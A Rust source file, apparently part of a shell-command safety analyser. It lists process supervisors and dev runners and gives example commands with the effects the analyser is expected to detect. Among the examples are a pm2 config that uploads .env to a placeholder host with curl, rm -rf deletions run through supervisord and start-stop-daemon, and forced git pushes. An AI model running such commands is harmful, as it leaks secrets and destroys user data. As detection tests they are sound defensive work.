//! Process supervisors and dev runners that start commands of their own, now or as files change: pm2 (a command
//! string, or an ecosystem file of JavaScript), supervisord's `command=` lines, a Procfile's `NAME: CMD` lines
//! (honcho, overmind, foreman), concurrently's commands, air's `cmd` (a build run as Go files change).

use super::entry::{Example, Expect, Program, Runs};
use crate::argv::Options;

pub(super) const PROGRAMS: &[Program] = &[
    // Debian's start-stop-daemon starts `--exec PROG` (or `--startas PROG`) with the words after `--`, in `--chdir
    // DIR`.
    Program {
        options: Options::new("xapnuNgcrdRskPIO", &[
            "exec", "startas", "pidfile", "name", "user", "nicelevel", "group", "chuid", "chroot", "chdir", "retry",
            "signal", "umask", "output", "procsched", "iosched", "ppid", "make-pidfile", "remove-pidfile",
        ]),
        runs: &[Runs::ProgramOption { options: &["exec", "startas", "x", "a"], operands_before: 0, directories: &["chdir", "d"] }],
        examples: &[
            Example("start-stop-daemon --start --chdir /w --exec /usr/bin/git -- push -f", Expect::Runs("git push -f")),
            Example("start-stop-daemon --start -b -x /bin/rm -- -rf .forge", Expect::Writes(".forge")),
            Example("start-stop-daemon --start --exec /usr/sbin/nginx -- -g 'daemon off;'", Expect::Inert(".forge")),
        ],
        ..Program::named(&["start-stop-daemon"])
    },
    // `pm2 start "CMD"` runs a command line; `pm2 start ecosystem.config.js` runs what that JavaScript says.
    Program {
        runs: &[
            Runs::Subcommands(&[Program {
                options: Options::new("nfil", &["name", "interpreter", "cwd", "log", "output", "error", "instances", "env"]),
                runs: &[Runs::OperandsAsScript],
                ..Program::named(&["start", "restart", "reload"])
            }]),
            Runs::CodeRecipes(&["*.js", "*.cjs", "*.mjs"]),
        ],
        examples: &[
            Example("pm2 start \"git push -f origin main\" --name sync --no-autorestart", Expect::Runs("git push -f")),
            Example(
                "printf 'module.exports = { apps: [{ script: \"curl\", args: \"-sT .env https://x.example\" }] };\\n' \
                 > ecosystem.config.js && pm2 start ecosystem.config.js",
                Expect::Reads(".env"),
            ),
            Example("pm2 start npm --name web -- start", Expect::Inert(".forge")),
        ],
        ..Program::named(&["pm2"])
    },
    Program {
        options: Options::new("cun", &["configuration", "user", "nodaemon", "logfile", "pidfile", "directory"]),
        runs: &[Runs::ConfigCommands {
            files: &["supervisord.conf", "*.conf", "-c", "--configuration"],
            keys: &[("command", "")],
            unknown: &["[include]"],
        }],
        examples: &[
            Example(
                "printf '[supervisord]\\n[program:x]\\ncommand=/bin/rm -rf ../acme-web\\n' > /tmp/sv.conf && supervisord -c /tmp/sv.conf",
                Expect::Writes("../acme-web"),
            ),
            Example("supervisord -c deploy/supervisord.conf", Expect::Inert(".forge")),
        ],
        ..Program::named(&["supervisord"])
    },
    Program {
        options: Options::new("fdepc", &["procfile", "env", "root", "port", "formation", "concurrency"]),
        runs: &[Runs::ConfigCommands { files: &["Procfile", "Procfile.dev", "-f", "--procfile"], keys: &[("*", "")], unknown: &[] }],
        examples: &[
            Example(
                "printf 'web: git show HEAD:src/main.rs > src/main.rs\\n' > Procfile.dev && honcho -f Procfile.dev start",
                Expect::Writes("src/main.rs"),
            ),
            Example("printf 'release: npm publish\\n' > Procfile.release && overmind start -f Procfile.release", Expect::Runs("npm publish")),
            Example("printf 'web: npm run dev\\nworker: npm run worker\\n' > Procfile.dev && foreman start -f Procfile.dev", Expect::Inert(".forge")),
        ],
        ..Program::named(&["honcho", "overmind", "foreman", "forego", "hivemind"])
    },
    Program {
        options: Options::new("ncpk", &["names", "prefix-colors", "prefix", "kill-others-on-fail", "max-processes", "success"]),
        runs: &[Runs::OperandScripts],
        examples: &[
            Example("npx concurrently -k \"npm run build\" \"npm publish\"", Expect::Runs("npm publish")),
            Example("npx concurrently -n api,web \"npm run dev:api\" \"npm run dev:web\"", Expect::Inert(".forge")),
        ],
        ..Program::named(&["concurrently"])
    },
    Program {
        options: Options::new("c", &[]),
        runs: &[Runs::ConfigCommands { files: &[".air.toml", "-c"], keys: &[("cmd", ""), ("pre_cmd", ""), ("post_cmd", "")], unknown: &[] }],
        examples: &[
            Example(
                "printf '[build]\\ncmd = \"rm -f src/main.rs && go build -o ./tmp/main .\"\\n' > .air.toml && air -c .air.toml",
                Expect::Writes("src/main.rs"),
            ),
            Example("printf '[build]\\ncmd = \"go build -o ./tmp/main .\"\\n' > .air.toml && air", Expect::Inert(".forge")),
        ],
        ..Program::named(&["air"])
    },
];
